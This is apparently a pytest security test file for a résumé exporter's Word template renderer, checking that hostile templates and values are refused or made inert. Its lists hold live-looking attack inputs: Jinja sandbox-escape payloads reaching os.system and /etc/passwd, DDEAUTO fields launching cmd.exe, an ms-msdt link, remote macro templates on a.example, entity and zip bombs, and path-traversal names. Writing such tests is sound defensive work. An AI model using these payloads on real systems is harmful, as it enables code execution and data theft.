"""Hostile templates and values: refused with a sentence, or rendered inert. Nothing runs, nothing is fetched."""

from __future__ import annotations

import time
from collections import Counter
from contextlib import suppress
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile

import pytest
from export_docx import TEMPLATES, body, lines, parts, template_of
from export_profiles import NURSE
from lxml import etree

import resumectl
from resumectl.documents import wordfiles
from resumectl.export.render import render
from resumectl.model.errors import BadFile
from resumectl.model.profile import BasicInfo, Certification, Education, Job, Link, Location, Profile, Project
from resumectl.model.rendering import PLAIN

CODE = [
    r"{{ ''|attr('\x5f\x5fclass\x5f\x5f') }}",
    "{{ ''['__cl' ~ 'ass__'] }}",
    "{{ skills.__getattribute__('count') }}",
    "{{ skills|map(attribute='__class__')|list }}",
    "{% set x = namespace(a=1) %}{{ x.__init__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.system('id') }}",
    "{{ dict.mro() }}",
    "{{ self._TemplateReference__context }}",
    "{% for j in skills %}{{ loop.__init__.__globals__ }}{% endfor %}",
    "{{ '{0.__class__}'.format(labels) }}",
    "{{ '{0.__class__}'.format_map(labels) }}",
    "{{ 'x'.translate({120: 'y' * 9}) }}",
    "{% extends '/etc/passwd' %}",
    "{% from 'os' import system %}",
    "{% import '../x' as x %}",
    "{% debug %}",
    "{% do skills.append(1) %}",
    "{{ request.application }}",
    "{{ range }}",
    "{{ labels }}",
    "{{ lipsum(n=10000) }}",
]
BOUNDS = [
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{{ " + "(" * 900 + "1" + ")" * 900 + " }}",
    "{{ " + "-" * 5000 + "1 }}",
    "{{ 'x' * 10**9 }}",
    "{{ [0] * 10**9 }}",
    "{{ 9 ** 99999999 }}",
    "{{ '%999999999s' % 'x' }}",
    "{{ '%999999999s'|format('x') }}",
    "{{ '%*s'|format(999999999, 'x') }}",
    "{{ 'x'.ljust(999999999) }}",
    "{{ 'x'|center(999999999) }}",
    "{{ range(10**9)|list|length }}",
    "{%p for a in range(9999) %}{%p for b in range(9999) %}" + "x" * 200 + "{%p endfor %}{%p endfor %}",
    "{{ 1 / 0 }}",
    "{{p headline }}",
]


@pytest.mark.parametrize("text", CODE + BOUNDS, ids=range(len(CODE + BOUNDS)))
def test_hostile_expressions_are_refused(text: str) -> None:
    """Ways to Python, to files, to endless text and numbers: an error with a next step, in a blink."""
    began = time.monotonic()
    with pytest.raises(BadFile) as caught:
        render(NURSE, template_of(text))
    assert caught.value.code == "TEMPLATE_INVALID"
    assert caught.value.remedy
    assert time.monotonic() - began < 10


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
P = b"http://schemas.openxmlformats.org/package/2006/relationships"
KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_part(name: str, content: bytes, *, last: bool = True) -> bytes:
    """A system template with a part replaced or added, at the end or before all others."""
    kept = {part: data for part, data in parts(TEMPLATES["classic"]).items() if part != name}
    rows = [*kept.items(), (name, content)] if last else [(name, content), *kept.items()]
    target = BytesIO()
    with ZipFile(target, "w", ZIP_DEFLATED) as archive:
        for part, data in rows:
            archive.writestr(part, data)
    return target.getvalue()


OUTSIDE = b' TargetMode="External"'


def relation(kind: bytes, target: bytes, mode: bytes = OUTSIDE, tag: bytes = b"Relationship") -> bytes:
    row = b'<%s Id="x" Type="%s%s" Target="%s"%s/>' % (tag, KIND, kind, target, mode)
    space = b' xmlns:r="%s"' % P if tag.startswith(b"r:") else b""
    return b'<Relationships xmlns="%s"%s>%s</Relationships>' % (P, space, row)


def field(*pieces: bytes) -> bytes:
    runs = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece for piece in pieces)
    return b'<w:hdr %s><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s</w:p></w:hdr>' % (W, runs)


def broken_part_first() -> bytes:
    """Macros behind a part whose checksum is wrong and that nobody refers to."""
    data = with_part("a.bin", b"A" * 50, last=False)
    data = data.replace(b"A" * 50, b"B" * 50) if b"A" * 50 in data else data
    with ZipFile(BytesIO(data)) as archive:
        info = archive.getinfo("a.bin")
    spoilt = bytearray(data)
    at = info.header_offset + 14
    spoilt[at] ^= 0xFF
    central = data.rindex(b"PK\x01\x02", 0, data.index(b"a.bin", data.index(b"PK\x01\x02")))
    spoilt[central + 16] ^= 0xFF
    return bytes(spoilt)


def part_packed_without_sense() -> bytes:
    """A part that nobody refers to, packed by LZMA with settings that do not exist."""
    target = BytesIO(TEMPLATES["classic"])
    with ZipFile(target, "a", ZIP_LZMA) as archive:
        archive.writestr("a.bin", b"A" * 50)
        at = archive.getinfo("a.bin").header_offset + 30 + len("a.bin")
    spoilt = bytearray(target.getvalue())
    spoilt[at + 4] = 0xFF
    return bytes(spoilt)


RELS = "word/_rels/document.xml.rels"
ARCHIVES = {
    "a part that cannot be unpacked": part_packed_without_sense(),
    "macros": with_part("word/vbaProject.bin", b"\xd0\xcf"),
    "macros under another name": with_part("word/_rels/x.rels", relation(b"vbaProject", b"x.bin", b"")),
    "macro type": with_part("[Content_Types].xml", b"<Types>vnd.ms-word.document.macroEnabled.main+xml</Types>"),
    "controls": with_part("word/activeX/activeX1.xml", b"<ax/>"),
    "an embedded program": with_part("word/embeddings/oleObject1.bin", b"MZ"),
    "a web page in it": with_part(RELS, relation(b"aFChunk", b"x.html", b"")),
    "a document type": with_part("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    "a bomb of entities": with_part("word/x.xml", b'<!DOCTYPE l [<!ENTITY a "l"><!ENTITY b "&a;&a;">]><l>&b;</l>'),
    "a document type in UTF-16": with_part("word/x.xml", "<!DOCTYPE x><x/>".encode("utf-16")),
    "a document type in UTF-7": with_part("word/x.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>'),
    "a document type in EBCDIC": with_part("word/x.xml", "<?xml version='1.0'?><!DOCTYPE x><x/>".encode("cp037")),
    "a picture from elsewhere": with_part(RELS, relation(b"image", b"https://a.example/p.png")),
    "the same with a prefix": with_part(RELS, relation(b"image", b"https://a.example/p.png", tag=b"r:Relationship")),
    "the same behind a sign": with_part(RELS, relation(b"image", b"https://a.example/>p.png")),
    "the same in entities": with_part(RELS, relation(b"image", b"https://a.example/", b' TargetMode="&#69;xternal"')),
    "a remote master": with_part(RELS, relation(b"attachedTemplate", b"https://a.example/x.dotm")),
    "a master on a share": with_part(RELS, relation(b"attachedTemplate", b"\\\\a.example\\x.dotm")),
    "a remote object": with_part(RELS, relation(b"oleObject", b"mhtml:https://a.example/x.html!x-usc:y")),
    "a remote part": with_part(RELS, relation(b"subDocument", b"https://a.example/x.docx")),
    "a source of mail merge": with_part(RELS, relation(b"mailMergeSource", b"file:///c:/people.mdb")),
    "a link that runs": with_part(RELS, relation(b"hyperlink", b"ms-msdt:/id PCWDiagnostic")),
    "a script link": with_part(RELS, relation(b"hyperlink", b"javascript:alert(1)")),
    "a link to a share": with_part(RELS, relation(b"hyperlink", b"\\\\a.example\\share")),
    "relationships that end early": with_part(RELS, b"<Relationships"),
    "a command": with_part("word/header9.xml", field(rb'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "a command in pieces": with_part("word/header9.xml", field(b" DD", b"E", b"AUTO cmd")),
    "a command in entities": with_part("word/header9.xml", field(b"&#68;DE cmd")),
    "a field that fetches": with_part("word/header9.xml", field(b'INCLUDEPICTURE "https://a.example/p.png"')),
    "a field that reads": with_part("word/header9.xml", field(b"INCLUDETEXT /etc/passwd")),
    "a simple field": with_part("word/h.xml", b'<w:hdr %s><w:fldSimple w:instr=\' DATABASE x\'/></w:hdr>' % W),
    "a field for a macro": with_part("word/header9.xml", field(b"MACROBUTTON Run here")),
    "a link in a field": with_part("word/header9.xml", field(b'HYPERLINK "file:///c:/x.exe"')),
    "a broken part before the others": broken_part_first(),
}


def bomb() -> bytes:
    return with_part("word/media/image1.png", bytes(201_000_000))


def bomb_of_spaces() -> bytes:
    return with_part("word/x.xml", b"<x>" + b" " * 51_000_000 + b"</x>")


def too_many_parts() -> bytes:
    target = BytesIO(TEMPLATES["classic"])
    with ZipFile(target, "a") as archive:
        for number in range(2001):
            archive.writestr(f"word/{number}", b"")
    return target.getvalue()


LARGE = {"a bomb": bomb, "a bomb of spaces": bomb_of_spaces, "too many parts": too_many_parts}


@pytest.mark.parametrize("name", [*ARCHIVES, *LARGE])
def test_hostile_archives_are_refused(name: str) -> None:
    """Macros, commands, things fetched from elsewhere, hidden document types, bombs: refused before Word's library."""
    data = ARCHIVES[name] if name in ARCHIVES else LARGE[name]()
    with pytest.raises(BadFile) as caught:
        render(NURSE, data)
    assert (caught.value.code, "refused" in caught.value.message) == ("TEMPLATE_INVALID", True)


@pytest.mark.parametrize("name", ["../../evil.sh", "/etc/cron.d/x", "C:\\x.exe", "word/../../x", "con.docx"])
def test_names_that_climb_out_stay_behind(name: str) -> None:
    """A part with a name like a path is written nowhere and is not in the finished file."""
    made = render(NURSE, with_part(name, b"#!/bin/sh"))
    assert not {one for one in parts(made) if ".." in one or one.startswith(("/", "C:", "con"))}


INERT = [
    "{% raw %}{{ x }}{% endraw %}",
    "{# {{ 1 / 0 }} #}x",
    "{{ '<w:p/>' }}",
    "{{r '</w:t><w:br/>' }}",
    "{{ '\\x00\\ud800' }}",
]


@pytest.mark.parametrize("text", INERT)
def test_what_is_only_odd_is_rendered_inert(text: str) -> None:
    """Tags as text, XML in a literal, characters that no file can hold: one plain paragraph."""
    made = render(NURSE, template_of(text))
    assert len(lines(made)) == 1
    assert not list(body(made).iter("{*}br"))


VALUES = [
    "{{ 7 * 7 }}", "{% for x in range(10**9) %}{% endfor %}", "{{ ''.__class__ }}", "{%p endif %}", "{{r x }}",
    "{_{ x }_}", "</w:t></w:r></w:p><w:p><w:r><w:t>new", '"><w:hyperlink r:id="rId1"/>', "]]><!--",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;", "&lt;w:p/&gt;&#0;&amp;", "<?xml version='1.0'?>",
    "a\x00b\x08c\x1bd\ud800e\ufffe", "\u202egnp.exe", "=cmd|'/c calc'!A0", 'DDEAUTO c:\\\\cmd.exe "/k"',
    "javascript:alert(1)", 'https://a.example/"><w:p/>', "x" * 50_000, "\n" * 500 + "x",
    "e" + "\u0301" * 300, "https://a.example/" + "a/" * 1500,
]  # fmt: skip


def everywhere(value: str) -> Profile:
    """A profile that says `value` in each of its members."""
    info = BasicInfo(value, value, value, value, value, value, value, value, Location(value, value), (value,))
    return Profile(
        basic_info=info,
        education=(Education(value, value, value, value),),
        work_history=(Job(value, value, value, value, value, (value,)),),
        skills=(value,),
        certifications=(Certification(value, value, value),),
        links=(Link(value, value),),
        projects=(Project(value, value, value, (value,)),),
        resume_language="english",
    )


def shape(data: bytes) -> Counter[str]:
    """How many paragraphs and other blocks there are; runs, breaks and links differ with the words."""
    return Counter(etree.QName(one).localname for one in body(data).iter("{*}p", "{*}tbl", "{*}drawing", "{*}fldChar"))


@pytest.mark.parametrize("value", VALUES, ids=range(len(VALUES)))
def test_hostile_values_are_text(value: str) -> None:
    """In whatever member it stands, a value makes no paragraph, no field and no dangerous link."""
    harmless = shape(render(everywhere("x" * 200), TEMPLATES["modern"]))
    short = shape(render(everywhere("x"), TEMPLATES["modern"]))
    made = render(everywhere(value), TEMPLATES["modern"])
    assert shape(made) in (harmless, short)
    for name, data in parts(made).items():
        if name.endswith((".xml", ".rels")):
            etree.fromstring(data)
        if name.endswith(".rels"):
            targets = [one.get("Target") for one in etree.fromstring(data) if one.get("TargetMode") == "External"]
            assert all(target.startswith(("https://", "http://", "mailto:", "tel:")) for target in targets)


@pytest.mark.check
@pytest.mark.parametrize(
    "text",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
        "{% set ns = namespace(x='x') %}{% for a in range(99) %}{% set ns.x = [ns.x, ns.x]|join %}{% endfor %}",
        "{{ (range(99999)|list|string * 1)|wordwrap(1)|wordwrap(1)|wordwrap(1) }}",
        "{% set ns = namespace(n=7) %}{% for a in range(99) %}{% set ns.n = ns.n * ns.n %}{% endfor %}",
    ],
    ids=["loops", "doubling", "wrapping", "squares"],
)
def test_what_never_ends_is_ended(text: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Time and memory are those of a child, and the refusal says so; lint and preview survive it too."""
    monkeypatch.setenv("PYTHONPATH", str(Path(resumectl.__file__).resolve().parents[1]))
    monkeypatch.setattr(wordfiles, "TRY_S", 4.0)
    began = time.monotonic()
    template = tmp_path / "house.docx"
    template.write_bytes(template_of(text))
    with pytest.raises(BadFile):
        wordfiles.render_file(NURSE, str(template), PLAIN)
    with suppress(BadFile):
        wordfiles.try_template(template.read_bytes(), {})
    assert time.monotonic() - began < 30
